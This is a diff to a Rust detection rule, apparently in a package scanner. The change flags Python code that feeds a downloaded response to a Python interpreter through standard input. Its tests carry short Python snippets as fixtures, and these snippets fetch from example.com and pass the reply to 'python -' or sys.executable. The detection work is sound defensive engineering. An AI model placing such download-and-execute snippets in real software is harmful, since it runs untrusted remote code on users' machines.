@@ -63,11 +63,10 @@ impl Rule for DownloadExecute {
                                 c.scope == download.scope
                             }
                         };
-                        let direct = code
-                            .calls
-                            .iter()
-                            .filter(same)
-                            .find(|c| vocab::is_exec(&c.name) && fed_by_network(code, c));
+                        let direct = code.calls.iter().filter(same).find(|c| {
+                            (vocab::is_exec(&c.name) || (vocab::is_shell(&c.name) && python_from_stdin(c)))
+                                && fed_by_network(code, c)
+                        });
                         let launch = code.calls.iter().filter(same).find(|c| {
                             (vocab::is_shell(&c.name) && !fetch_tool(c))
                                 || matches!(
@@ -229,6 +228,21 @@ fn network_ref(r: &str) -> bool {
 
 /// `exec(x)` where `x` is network data, directly or through one decoder call
 /// of the same function (`exec(b64decode(requests.get(u).json()["m"]))`).
+/// An argv that runs Python on its standard input (`[sys.executable, "-"]`,
+/// `python3 -`): what it is fed is executed.
+fn python_from_stdin(call: &Call) -> bool {
+    // `sys.executable` does not fold: the argv then reads `-` with `executable` among its names.
+    let executable = call.arg_names.iter().any(|n| n == "executable");
+    call.arg_strs.first().is_some_and(|argv| {
+        let words: Vec<&str> = argv.split_whitespace().collect();
+        words.last() == Some(&"-")
+            && (executable
+                || words[..words.len() - 1]
+                    .iter()
+                    .any(|w| w.rsplit(['/', '\\']).next().unwrap_or(w).starts_with("python") || *w == "{}"))
+    })
+}
+
 fn fed_by_network(code: &crate::inspect::python::PyFile, exec: &Call) -> bool {
     exec.arg_refs.iter().any(|r| {
         if network_ref(r) {
@@ -429,6 +443,27 @@ mod tests {
     use super::*;
     use crate::archive::Kind;
     use crate::inspect::testing::{check, setup_py};
+
+    #[test]
+    fn fires_on_response_fed_to_python_stdin() {
+        // Error (issue 11): `python -` runs whatever the server answers.
+        let f = setup_py(
+            &DownloadExecute,
+            "import subprocess, urllib.request\nsrc = urllib.request.urlopen('https://example.com/a').read()\nsubprocess.run(['python', '-'], input=src)\n",
+        );
+        assert_eq!((f.len(), f[0].severity), (1, Severity::Critical), "{f:?}");
+        let f = setup_py(
+            &DownloadExecute,
+            "import subprocess, sys, requests\nr = requests.get('https://example.com/a')\nsubprocess.run([sys.executable, '-'], input=r.content)\n",
+        );
+        assert_eq!((f.len(), f[0].severity), (1, Severity::Critical), "{f:?}");
+        // No error at critical: the response saved, and an unrelated interpreter run.
+        let f = setup_py(
+            &DownloadExecute,
+            "import subprocess, urllib.request\ndata = urllib.request.urlopen('https://example.com/a').read()\nsubprocess.run(['python', '-m', 'build'])\n",
+        );
+        assert!(f.iter().all(|f| f.severity < Severity::Critical), "{f:?}");
+    }
 
     #[test]
     fn fires_on() {
